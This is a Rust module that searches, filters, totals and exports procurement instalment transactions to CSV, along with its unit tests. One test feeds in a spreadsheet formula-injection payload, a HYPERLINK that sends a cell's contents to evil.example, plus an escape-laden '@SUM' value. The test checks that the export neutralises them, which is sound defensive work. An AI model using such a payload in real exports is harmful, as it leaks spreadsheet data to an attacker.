//! What supervisors do with termin transactions: search, filter by status, totals, CSV rows.
//! Pure functions over transactions already fetched.

use super::money::{Money, Total};
use super::termin::Transaction;
use std::collections::BTreeMap;

/// Columns of a termin CSV export (money as plain numbers).
pub const CSV_HEADERS: [&str; 20] = [
    "entry_date",
    "purchase_order_number",
    "purchase_request_number",
    "invoice_number",
    "buyer_name",
    "vendor_name",
    "status_name",
    "step",
    "total_step",
    "price_sub_total",
    "total_ppn",
    "total_pph",
    "bill_amount",
    "bank_name",
    "va_number",
    // The tax split and shipping, so that bill = subtotal + shipping - PPh reads off a row.
    "pph21",
    "pph22",
    "pph23",
    "shipping_cost",
    "status_change_date",
];

fn opt<T: ToString>(v: Option<T>) -> String {
    v.map(|v| v.to_string()).unwrap_or_default()
}

/// One transaction as CSV cells, each made safe for a spreadsheet (`text::csv_cell`: no
/// control characters, no formula); money as plain numbers. The CLI and the workstation's
/// export both write these.
pub fn csv_row(t: &Transaction) -> Vec<String> {
    let p = &t.payment;
    let plain = |m: Option<Money>| opt(m.map(|m| m.plain()));
    let cells = vec![
        t.general.entry_date.clone(),
        t.general.purchase_order_number.clone(),
        t.general.purchase_request_number.clone(),
        t.general.invoice_number.clone(),
        t.general.buyer_name.clone(),
        t.vendor.name.clone(),
        t.general.status_name.clone(),
        opt(p.step),
        opt(p.total_step),
        plain(p.price_sub_total),
        plain(p.total_ppn),
        plain(p.total_pph),
        plain(p.bill_amount),
        p.bank_name.clone(),
        p.va_number.clone(),
        plain(p.pph21),
        plain(p.pph22),
        plain(p.pph23),
        plain(p.shipping_cost),
        t.general.status_change_date.clone(),
    ];
    cells
        .into_iter()
        .map(|c| match super::text::csv_cell(&c) {
            std::borrow::Cow::Borrowed(_) => c,
            std::borrow::Cow::Owned(o) => o,
        })
        .collect()
}

/// Which statuses a question is about: some named ones (any case), only the open ones (not
/// finished: `termin_desk::FINISHED`), both (then a row must be both), or every one.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct StatusSet {
    pub names: Vec<String>,
    pub open: bool,
}

impl StatusSet {
    pub fn named(names: &[&str]) -> StatusSet {
        StatusSet {
            names: names.iter().map(|s| s.to_string()).collect(),
            open: false,
        }
    }

    /// No filter: every status.
    pub fn is_every(&self) -> bool {
        self.names.is_empty() && !self.open
    }

    pub fn admits(&self, status: &str) -> bool {
        let status = status.trim();
        if self.open && is_finished(status) {
            return false;
        }
        self.names.is_empty()
            || self
                .names
                .iter()
                .any(|n| n.trim().eq_ignore_ascii_case(status))
    }

    /// The names asked for that no transaction of `seen` carries (a typo, or a status the
    /// provider does not use).
    pub fn unknown<'a>(&'a self, seen: &[String]) -> Vec<&'a str> {
        self.names
            .iter()
            .filter(|n| !seen.iter().any(|s| s.trim().eq_ignore_ascii_case(n.trim())))
            .map(String::as_str)
            .collect()
    }
}

/// Whether a status is finished (paid or cancelled).
pub fn is_finished(status: &str) -> bool {
    super::termin_desk::FINISHED
        .iter()
        .any(|f| f.eq_ignore_ascii_case(status.trim()))
}

/// Every status carried by `txs`, A to Z, each once.
pub fn statuses_seen<'a>(txs: impl IntoIterator<Item = &'a Transaction>) -> Vec<String> {
    let mut s: Vec<String> = txs
        .into_iter()
        .map(|t| t.general.status_name.trim().to_string())
        .collect();
    s.sort();
    s.dedup();
    s
}

/// Search over PO, PR and invoice numbers, buyer and vendor (case-insensitive), and an exact
/// status when given.
pub fn matches(t: &Transaction, search: &str, status: Option<&str>) -> bool {
    if let Some(s) = status
        && !t.general.status_name.trim().eq_ignore_ascii_case(s.trim())
    {
        return false;
    }
    matches_text(t, search)
}

/// `matches` with a set of statuses.
pub fn matches_set(t: &Transaction, search: &str, statuses: &StatusSet) -> bool {
    statuses.admits(&t.general.status_name) && matches_text(t, search)
}

fn matches_text(t: &Transaction, search: &str) -> bool {
    if search.is_empty() {
        return true;
    }
    let needle = search.to_lowercase();
    [
        &t.general.purchase_order_number,
        &t.general.purchase_request_number,
        &t.general.invoice_number,
        &t.general.buyer_name,
        &t.buyer_group.name,
        &t.vendor.name,
    ]
    .iter()
    .any(|f| f.to_lowercase().contains(&needle))
}

/// How a transaction is named where a sum goes past the range: its PO number (else its PR).
pub fn record_name(t: &Transaction) -> String {
    let g = &t.general;
    let id = if g.purchase_order_number.trim().is_empty() {
        &g.purchase_request_number
    } else {
        &g.purchase_order_number
    };
    crate::domain::text::sanitize(id.trim()).into_owned()
}

/// Count and amounts of a group of transactions.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Sum {
    pub count: usize,
    pub bill: Total,
    pub subtotal: Total,
    pub pph: Total,
    pub ppn: Total,
    pub shipping: Total,
}

impl Sum {
    pub fn add(&mut self, t: &Transaction) {
        let p = &t.payment;
        self.count += 1;
        // Checked: a sum past the range is an error naming this record, never a panic.
        let record = || record_name(t);
        self.bill.add(p.bill_amount.unwrap_or_default(), record);
        self.subtotal
            .add(p.price_sub_total.unwrap_or_default(), record);
        self.pph.add(p.total_pph.unwrap_or_default(), record);
        self.ppn.add(p.total_ppn.unwrap_or_default(), record);
        self.shipping
            .add(p.shipping_cost.unwrap_or_default(), record);
    }

    /// bill = subtotal + shipping - PPh (the provider's rule; PPN is shown, not billed).
    /// A sum past the range reconciles nothing.
    pub fn reconciles(&self) -> bool {
        match (
            self.subtotal.value(),
            self.shipping.value(),
            self.pph.value(),
            self.bill.value(),
        ) {
            (Ok(subtotal), Ok(shipping), Ok(pph), Ok(bill)) => {
                subtotal
                    .checked_add(shipping)
                    .and_then(|s| s.checked_sub(pph))
                    == Some(bill)
            }
            _ => false,
        }
    }
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Totals {
    /// By status name as given (unknown statuses included), sorted by name.
    pub by_status: BTreeMap<String, Sum>,
    pub by_vendor: BTreeMap<String, Sum>,
    pub grand: Sum,
}

impl Totals {
    pub fn of<'a>(transactions: impl IntoIterator<Item = &'a Transaction>) -> Totals {
        let mut t = Totals::default();
        for tx in transactions {
            let status = if tx.general.status_name.is_empty() {
                "(no status)"
            } else {
                &tx.general.status_name
            };
            t.by_status.entry(status.to_string()).or_default().add(tx);
            let vendor = if tx.vendor.name.is_empty() {
                "(no vendor)"
            } else {
                &tx.vendor.name
            };
            t.by_vendor.entry(vendor.to_string()).or_default().add(tx);
            t.grand.add(tx);
        }
        t
    }

    /// Vendors by bill amount, largest first.
    pub fn top_vendors(&self, n: usize) -> Vec<(&String, &Sum)> {
        let mut v: Vec<_> = self.by_vendor.iter().collect();
        v.sort_by(|a, b| b.1.bill.cmp(&a.1.bill).then(a.0.cmp(b.0)));
        v.truncate(n);
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::termin::{General, Payment, Vendor};

    fn tx(po: &str, status: &str, vendor: &str, bill: i64) -> Transaction {
        Transaction {
            general: General {
                purchase_order_number: po.into(),
                status_name: status.into(),
                ..General::default()
            },
            payment: Payment {
                bill_amount: Some(Money::from_units(bill)),
                price_sub_total: Some(Money::from_units(bill + 10)),
                ..Payment::default()
            },
            vendor: Vendor {
                name: vendor.into(),
                ..Vendor::default()
            },
            ..Transaction::default()
        }
    }

    #[test]
    fn totals_per_status_vendor_and_grand() {
        let all = [
            tx("PO-1", "Selesai", "PT A", 100),
            tx("PO-2", "Selesai", "PT B", 50),
            tx("PO-3", "Status Baru Sekali", "PT A", 7),
        ];
        let t = Totals::of(&all);
        assert_eq!(t.by_status["Selesai"].count, 2);
        assert_eq!(t.by_status["Selesai"].bill, Money::from_units(150));
        assert_eq!(
            t.by_status["Status Baru Sekali"].count, 1,
            "unknown statuses as given"
        );
        assert_eq!(t.by_vendor["PT A"].bill, Money::from_units(107));
        assert_eq!(t.grand.count, 3);
        assert_eq!(t.grand.subtotal, Money::from_units(187));
        assert_eq!(t.top_vendors(1)[0].0, "PT A");
    }

    #[test]
    fn search_and_status_filter() {
        let t = tx(
            "PO-2024-10-21-992176465",
            "Diproses Penjual",
            "PT. DAYA DIMENSI",
            1,
        );
        assert!(matches(&t, "992176", None));
        assert!(matches(&t, "daya", Some("Diproses Penjual")));
        assert!(!matches(&t, "daya", Some("Selesai")));
        assert!(!matches(&t, "zzz", None));
    }

    #[test]
    fn csv_row_has_plain_money() {
        let row = csv_row(&tx("PO-1", "Selesai", "PT A", 257005026));
        assert_eq!(row.len(), CSV_HEADERS.len());
        assert_eq!(row[12], "257005026");
        let mut evil = tx(
            "PO-1",
            "Selesai",
            r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#,
            -5,
        );
        evil.general.buyer_name = "@SUM(1)\u{1b}[2J".into();
        let row = csv_row(&evil);
        assert!(row[5].starts_with("'=HYPERLINK("), "{}", row[5]);
        assert_eq!(row[4], "'@SUM(1)[2J");
        assert_eq!(row[12], "-5", "a negative amount stays a number");
    }
}
